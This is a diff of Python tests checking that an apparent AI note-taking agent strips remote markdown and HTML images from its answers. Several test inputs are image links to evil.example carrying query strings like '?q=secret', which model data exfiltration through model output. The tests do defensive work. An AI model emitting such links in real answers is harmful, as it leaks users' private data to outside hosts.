@@ -220,10 +220,48 @@ def ready(context: Context) -> Context:
         ("`![x](https://evil.example/p)`", "`![x](https://evil.example/p)`"),
         ("![[Image.png]] and [a](https://site.example)", "![[Image.png]] and [a](https://site.example)"),
         ("1 < 2", "1 < 2"),
+        ("!![x](https://a.example)(https://evil.example/?q=secret)", "[image left out: evil.example]"),
+        ("![a ![b](https://long.example/p/p/p/p/p/p)](https://b.example) stays", "[image left out: b.example] stays"),
+        ("<!-- ![x](https://evil.example/?q) -->", "&lt;!-- [image left out: evil.example] -->"),
+        ("<p>\n![x](https://evil.example/?q)\n</p>", "&lt;p>\n[image left out: evil.example]\n&lt;/p>"),
+        ("%%\n![x](https://evil.example/?q)\n%%", "%%\n[image left out: evil.example]\n%%"),
+        ("$![x](https://evil.example/?q)$", "$[image left out: evil.example]$"),
+        ("---\na: ![x](https://evil.example/?q)\n---\n", "---\na: [image left out: evil.example]\n---\n"),
+        ("%% <img src=//evil.example> %%", "%% &lt;img src=//evil.example> %%"),
     ],
 )
 def test_an_answer_loads_nothing_from_elsewhere(answer: str, expected: str) -> None:
     assert defusing.defused(answer)[0] == expected
+
+
+def test_an_answer_of_images_within_images_comes_to_an_end() -> None:
+    answer = "!" * 200 + "[x](a:b)" + "(c:d)" * 200
+
+    defused = defusing.defused(answer)[0]
+
+    assert defusing.defused(defused)[0] == defused
+    assert "![" not in defused.replace("!\\[", "")
+
+
+def test_a_mended_answer_loads_nothing_from_elsewhere(vault: opened.Opener) -> None:
+    better = "Green. [[Garden#Fence]] (lines 3-5) ![x](https://evil.example/?q=secret)"
+    model = Model([["Green and all the rest of it. [[Garden#Fence]] (lines 9-10)"], [better]])
+
+    with scripted.agent(vault) as context:
+        done = scripted.done(scripted.run(scripted.chat(model), ready(context)))
+
+    assert done.answer == "Green. [[Garden#Fence]] (lines 3-5) [image left out: evil.example]"
+
+
+def test_what_is_left_around_a_dropped_citation_loads_nothing_from_elsewhere(vault: opened.Opener) -> None:
+    model = Model(
+        [["Green. ![[Garden#Roof]] (lines 1-2)", " and ! [[Garden#Roof]] (line 1)[x](https://evil.example/?q)"]]
+    )
+
+    with scripted.agent(vault) as context:
+        done = scripted.done(scripted.run(scripted.chat(model), ready(context)))
+
+    assert done.answer == "Green. and [image left out: evil.example]"
 
 
 def test_a_tool_can_be_called_before_citing(vault: opened.Opener) -> None:
